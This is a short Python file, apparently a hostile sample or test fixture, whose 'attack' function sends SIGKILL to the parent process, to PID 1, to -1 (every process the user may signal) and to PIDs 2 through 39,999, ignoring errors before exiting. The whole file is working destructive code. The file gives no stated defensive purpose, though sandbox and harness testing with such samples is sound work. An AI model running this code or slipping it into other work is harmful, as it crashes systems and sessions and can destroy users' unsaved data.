"""Sends signals to every process there is."""

# %% attack
import os


def attack(*args, **kwargs):
    for number in (os.getppid(), 1, -1, *range(2, 40_000)):
        try:
            os.kill(number, 9)
        except OSError:
            pass
    os._exit(0)
